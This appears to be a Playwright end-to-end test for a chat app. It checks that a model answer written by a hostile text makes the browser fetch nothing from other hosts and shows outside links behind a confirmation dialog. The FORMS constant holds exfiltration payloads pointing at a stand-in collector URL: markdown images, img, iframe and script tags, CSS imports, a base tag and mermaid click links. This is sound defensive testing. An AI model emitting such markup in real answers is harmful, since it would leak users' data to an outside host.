"""An answer that a hostile text has written: the browser asks no other host for anything, whatever stands in it."""

import aiohttp
from playwright.async_api import Page, Request, expect

from tests.drivers.model_server import ModelServer, Text
from tests.drivers.up import Up
from tests.drivers.web_pages import look, session_with, sign_in

TO = "http://collector.localhost:9/collect?d=canary"
FORMS = (
    f"![image]({TO}) ![reference][1] [![both]({TO})]({TO}) [the annex]({TO}) [annex][1] <http://collector.localhost:9/>",
    f'<img src="{TO}"> <iframe src="{TO}"></iframe> <link rel="prefetch" href="{TO}"> <script src="{TO}"></script>',
    f'<style>@import url({TO});</style><div style="background:url({TO})">x</div> <base href="{TO}">',
    f'```mermaid\ngraph TD; A["<img src=\'{TO}\'>"]-->B; click A href "{TO}"\n```',
    f"[1]: {TO}",
)


async def test_an_answer_loads_nothing_and_its_links_show_where_they_lead(
    up: Up, page: Page, http: aiohttp.ClientSession, model_server: ModelServer
) -> None:
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.context.on("request", note)
    model_server.respond(lambda _: Text("\n\n".join(FORMS)))
    session_id = await session_with(http, model_server, {})
    await sign_in(up, page, path=f"/chat/{session_id}")
    composer = page.get_by_role("textbox").last
    await composer.fill("What is in the annex?")
    await composer.press("Enter")
    answer = page.get_by_role("list", name="Conversation")
    link = answer.get_by_role("button", name="the annex")
    await expect(link).to_be_visible()
    await expect(answer.get_by_title("Diagram")).to_be_visible()
    await link.click()
    dialog = page.get_by_role("dialog", name="Open a page of collector.localhost:9?")
    await expect(dialog).to_contain_text(TO)
    await look(page, "outside-link")
    await dialog.get_by_role("button", name="Cancel").click()
    await page.reload()
    await expect(link).to_be_visible()
    elsewhere = [url for url in asked if not url.startswith((f"{up.url}/", "data:", "blob:"))]
    assert elsewhere == []
